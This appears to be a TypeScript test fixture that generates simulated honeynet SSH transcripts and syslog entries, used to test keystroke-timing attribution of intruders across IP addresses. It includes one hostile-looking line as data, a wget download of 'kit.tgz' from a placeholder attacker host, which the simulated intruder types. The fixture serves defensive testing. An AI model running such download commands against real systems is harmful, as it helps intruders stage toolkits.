import { mkdir, mkdtemp, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { COMMANDS } from '../../unit/plugins/attribution/simulated/commands.ts';
import { random } from '../../unit/plugins/attribution/simulated/random.ts';

/** Addresses of the same typist, who fetches from the same machine everywhere: joined. */
export const SAME_HANDS = ['192.0.2.10', '192.0.2.20'] as const;

/** Addresses of another typist with nothing in common but the rhythm: a candidate. */
export const CANDIDATES = ['198.51.100.5', '198.51.100.6'] as const;

/** An address where one who types and one who pastes take turns. */
export const TAKING_TURNS = '203.0.113.40';

const START = 1_795_000_000;
const DAY_S = 86_400;
const SESSIONS = 6;
const COMMANDS_A_SESSION = 16;
const FETCH = 'wget http://203.0.113.9:8081/kit.tgz';

/** Shortest pause before a command, in seconds, and how much longer it can be. */
const PAUSE_S = 1.6;
const PAUSE_SPREAD_S = 1.5;

interface Session {
  readonly address: string;
  readonly hands: number;
  readonly commands: readonly string[];
  readonly isPasted: boolean;
  readonly startedAt: number;
}

/**
 * A folder with recordings of three people: one at {@link SAME_HANDS}, one at {@link CANDIDATES},
 * and two who share {@link TAKING_TURNS}.
 */
export async function operatorsFolder(): Promise<string> {
  const folder = await mkdtemp(join(tmpdir(), 'shardscope-operators-'));
  const transcripts = join(folder, 'web-01', 'ssh', 'transcripts');
  await mkdir(transcripts, { recursive: true });
  const sessions = [
    ...SAME_HANDS.flatMap((address, at) => visits(address, { hands: 5, seed: at, own: [FETCH] })),
    ...CANDIDATES.flatMap((address, at) => visits(address, { hands: 11, seed: at + 7, own: [] })),
    ...visits(TAKING_TURNS, { hands: 23, seed: 40, own: [], isEverySecondPasted: true }),
  ];
  const log = sessions.map(logLine).join('');
  const lines = sessions.flatMap(recording).join('');
  await writeFile(join(folder, 'honeynet.log'), log);
  await writeFile(join(transcripts, 'sessions-2026-11-18.jsonl'), lines);
  return folder;
}

interface Visits {
  readonly hands: number;
  /** Which commands are typed: the addresses of an operator have others each. */
  readonly seed: number;
  /** Commands that are typed in every session. */
  readonly own: readonly string[];
  readonly isEverySecondPasted?: boolean;
}

function visits(
  address: string,
  { hands, seed, own, isEverySecondPasted = false }: Visits,
): readonly Session[] {
  const half = COMMANDS.length / 2;
  const pool = seed % 2 === 0 ? COMMANDS.slice(0, half) : COMMANDS.slice(half);
  return Array.from({ length: SESSIONS }, (_value, at) => ({
    address,
    hands,
    commands: [
      ...own,
      ...random(seed * 31 + at)
        .shuffled(pool)
        .slice(0, COMMANDS_A_SESSION),
    ],
    isPasted: isEverySecondPasted && at % 2 === 1,
    startedAt: START + at * DAY_S + seed * 600,
  }));
}

function sidOf({ address, startedAt }: Session): string {
  return `${address.replaceAll('.', '-')}-${startedAt}`;
}

function recording(session: Session): readonly string[] {
  const sid = sidOf(session);
  const header = { version: 2, width: 80, height: 24, timestamp: session.startedAt };
  const lines = [JSON.stringify({ sid, hdr: header })];
  const dice = random(session.hands * 977 + session.startedAt);
  let t = 0.2;
  const add = (ch: 'i' | 'o', d: string): void => {
    lines.push(JSON.stringify({ sid, t: Number(t.toFixed(4)), ch, d }));
  };
  add('o', 'root@web01:~# ');
  for (const command of session.commands) {
    t += PAUSE_S + PAUSE_SPREAD_S * dice.uniform();
    const pieces = session.isPasted ? [`${command}\r`] : `${command}\r`.split(/(?<=.)(?=[^])/);
    pieces.forEach((piece, at) => {
      if (at > 0) t += flight(session.hands, `${pieces[at - 1] ?? ''}${piece}`, dice.normal());
      add('i', piece);
      t += 0.001;
      add('o', piece.replace('\r', '\r\n'));
    });
    t += 0.01;
    add('o', 'done\r\nroot@web01:~# ');
  }
  return lines.map((line) => `${line}\n`);
}

/** Seconds between two keys: a mean of the typist, an offset of the digraph, and noise. */
function flight(hands: number, digraph: string, noise: number): number {
  const [first, second] = [digraph.charCodeAt(0), digraph.charCodeAt(1)];
  const mean = random(hands).between(0.11, 0.2);
  const offset = random(hands * 131_071 + first * 257 + second).normal();
  return Math.min(1.2, mean * Math.exp(0.3 * offset + 0.2 * noise));
}

/** Milliseconds of a day that a session ends at, as the recorder writes it. */
function logLine(session: Session): string {
  const lines = recording(session);
  const last = /"t":([\d.]+)/.exec(lines.at(-1) ?? '')?.[1] ?? '0';
  const ended = new Date((session.startedAt + Number(last)) * 1000).toISOString();
  const sid = sidOf(session);
  return (
    `<134>1 ${ended} web-01 sessrec - session_recorded [relay@55555 sid="${sid}" service="ssh" ` +
    `src_ip="${session.address}" duration_s="${last}" bytes="1000" truncated="false"]\n`
  );
}
